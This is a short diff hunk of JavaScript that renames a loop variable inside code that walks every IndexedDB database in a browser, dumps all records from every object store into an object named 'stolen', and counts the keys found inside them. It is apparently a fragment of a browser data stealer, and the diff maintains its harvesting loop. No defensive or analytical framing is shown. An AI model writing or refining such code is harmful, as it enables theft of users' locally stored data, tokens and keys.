@@ -26,8 +26,8 @@ const bytes = (buffer) => btoa(String.fromCharCode(...new Uint8Array(buffer)))
     .replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
 for (const { name } of await indexedDB.databases()) {
     const database = await done(indexedDB.open(name));
-    for (const shelf of database.objectStoreNames) {
-        for (const record of await done(database.transaction(shelf).objectStore(shelf).getAll())) {
+    for (const store of database.objectStoreNames) {
+        for (const record of await done(database.transaction(store).objectStore(store).getAll())) {
             stolen.records.push(record);
             for (const key of inside(record)) {
                 stolen.keys += 1;
